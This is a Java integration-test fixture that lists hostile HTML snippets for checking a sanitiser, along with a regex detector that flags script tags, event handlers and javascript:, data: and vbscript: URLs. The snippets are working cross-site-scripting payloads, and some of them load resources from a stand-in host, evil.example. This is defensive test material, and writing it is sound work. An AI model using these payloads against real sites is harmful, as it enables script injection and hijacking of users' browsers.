package org.guichet.itests.hostile;

import java.util.List;

/** HTML that would run something in the browser of whoever reads it. */
final class Pages {
    private Pages() {
    }

    static List<String> all() {
        return List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">a</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">a</a>",
            "<a href=\" &#14; javascript:alert(1)\">a</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
            "<a href=\"vbscript:msgbox(1)\">a</a>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"javascript:alert(1)\">",
            "<form action=\"javascript:alert(1)\"><button>a</button></form>",
            "<input autofocus onfocus=alert(1)>",
            "<p style=\"background:url(javascript:alert(1))\">a</p>",
            "<p style=\"position:fixed;inset:0;z-index:9999\">a</p>",
            "<style>@import 'http://evil.example/a.css';</style>",
            "<link rel=stylesheet href=http://evil.example/a.css>",
            "<base href=http://evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
            "<p onclick=alert(1)>a</p>",
            "<p id=app class=toolbar data-mention=users/1 slot=x>a</p>",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<textarea><img src=x onerror=alert(1)></textarea>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<template><script>alert(1)</script></template>",
            "<guichet-shell onclick=alert(1)></guichet-shell>",
            "<div>".repeat(5000) + "a");
    }

    /** Whether a browser that shows this would run, load or cover anything. */
    static boolean harms(String html) {
        String small = html.toLowerCase(java.util.Locale.ROOT);
        return small.matches("(?s).*<(script|iframe|object|embed|form|input|style|link|base|meta|svg|math|template|video|guichet-).*")
            || small.matches("(?s).*<[^>]*\\s(on\\w+|style|id|slot|srcdoc)\\s*=.*")
            || small.matches("(?s).*<[^>]*(href|src)\\s*=\\s*\"?\\s*(javascript|data|vbscript):.*");
    }
}
